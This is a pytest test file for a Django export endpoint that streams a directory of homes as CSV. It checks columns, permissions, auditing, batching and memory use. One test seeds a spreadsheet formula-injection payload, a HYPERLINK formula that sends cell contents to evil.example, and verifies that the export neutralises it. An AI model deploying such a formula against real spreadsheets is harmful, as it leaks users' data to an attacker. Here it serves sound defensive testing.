"""The directory as CSV, for Harbor admins (a home admin: her own homes): the import's
columns, streamed, safe to open."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from rest_framework.test import APIClient

from audit.models import AuditEntry
from core.vocab import HOME_TYPE_AFCARS
from homes.columns import HEADERS, read_row
from homes.exports import homes_in_batches
from homes.services import PROFILE_FIELDS
from tests.factories import HomeFactory

pytestmark = pytest.mark.django_db

EXPORT = "/api/v1/homes/export/"


def _download(user, query: str = "?format=csv"):
    client = APIClient()
    client.force_authenticate(user)
    return client.get(EXPORT + query)


def _rows(response) -> list[dict[str, str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


def test_it_streams_every_home_with_the_imports_columns(admin_user, home, other_home):
    response = _download(admin_user)

    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="harbor-homes-')
    rows = _rows(response)
    assert list(rows[0]) == HEADERS
    assert [r["name"] for r in rows] == ["Lighthouse House", "Cedar Place"]  # by id
    assert rows[1]["state"] == "MO"
    assert rows[1]["zip_code"] == "64108"
    assert rows[0]["external_id"] == f"harbor-{home.pk}"


def test_it_writes_no_cell_a_spreadsheet_would_run(admin_user):
    HomeFactory(
        name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        contact_name="+1+2",
        license_number="-2+3",
        external_id="@SUM(A1)",
        latitude=39.1,
        longitude=-94.6,
    )

    rows = _rows(_download(admin_user))

    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert rows[0]["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert rows[0]["contact_name"] == "'+1+2"
    assert rows[0]["external_id"] == "'@SUM(A1)"
    assert rows[0]["longitude"] == "'-94.6"


@pytest.mark.parametrize(("home_type", "code"), sorted(HOME_TYPE_AFCARS.items()))
def test_it_gives_each_home_its_afcars_placement_setting(admin_user, home_type, code):
    HomeFactory(home_type=home_type)

    assert _rows(_download(admin_user))[0]["afcars_setting"] == str(code)


def test_its_rows_read_back_as_the_same_homes(admin_user, home, other_home):
    HomeFactory(
        name="=Casa Esperanza",
        home_type="emergency_shelter",
        external_id="MO-77",
        intake_phone="+1 (816) 555-0100 ext. 2",
        languages=["es", "en"],
        accepts_parenting=True,
        max_dependents=1,
    )

    rows = _rows(_download(admin_user))

    from homes.models import Home

    for row, home in zip(rows, Home.objects.order_by("pk"), strict=True):
        data = read_row(row)
        expected = {name: getattr(home, name) for name in PROFILE_FIELDS}
        assert data == expected | {"external_id": home.external_id or f"harbor-{home.pk}"}


def test_it_reads_the_directory_in_batches(django_assert_num_queries):
    homes = HomeFactory.create_batch(5)

    with django_assert_num_queries(3):  # 2 + 2 + 1 rows
        seen = [h.pk for h in homes_in_batches(batch=2)]

    assert seen == [h.pk for h in homes]


def test_it_audits_each_export(admin_user, home, other_home):
    _download(admin_user)
    _download(admin_user, "?format=hsds")

    entries = AuditEntry.objects.filter(action="home.export").order_by("id")
    assert [(e.actor, e.after) for e in entries] == [
        (admin_user, {"format": "csv", "homes": 2}),
        (admin_user, {"format": "hsds", "homes": 2}),
    ]
    assert all(e.at is not None for e in entries)


def test_it_gives_csv_when_no_format_is_named(admin_user, home):
    response = _download(admin_user, "")

    assert response["Content-Type"] == "text/csv; charset=utf-8"


@pytest.mark.parametrize("query", ["?format=xlsx", "?format=", "?format=CSV"])
def test_it_refuses_an_unknown_format_naming_it(admin_user, home, query):
    response = _download(admin_user, query)

    assert response.status_code == 400
    assert "format" in response.json()
    assert not AuditEntry.objects.filter(action="home.export").exists()


@pytest.mark.parametrize("persona", ["alice", "bob", "mdt"])
def test_it_exports_for_harbor_admins_and_home_admins_only(request, persona, home):
    response = _download(request.getfixturevalue(persona))

    assert response.status_code == 403
    assert not AuditEntry.objects.filter(action="home.export").exists()


def test_it_refuses_anonymous_downloads(home):
    assert APIClient().get(EXPORT).status_code == 401


def test_the_dashboard_links_both_downloads_for_admins_only(admin_user, alice):
    client = Client()
    client.force_login(admin_user)
    page = client.get("/").content.decode()
    assert f'href="{EXPORT}?format=csv"' in page
    assert f'href="{EXPORT}?format=hsds"' in page

    client.force_login(alice)
    assert EXPORT not in client.get("/").content.decode()


@pytest.mark.parametrize("export", ["csv", "hsds"])
def test_its_memory_does_not_grow_with_the_directory(monkeypatch, export):
    """Five times the homes, the same peak: only one batch is ever held."""
    import tracemalloc

    from homes import exports
    from homes.models import Home

    monkeypatch.setattr(exports, "BATCH", 100)

    def peak(homes: int) -> int:
        Home.objects.bulk_create(HomeFactory.build() for _ in range(homes - Home.objects.count()))
        lines = exports.directory_csv() if export == "csv" else exports.directory_hsds(homes)
        tracemalloc.start()
        try:
            for _line in lines:
                pass
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    small = peak(300)
    large = peak(1500)

    assert large < small * 1.5, (small, large)
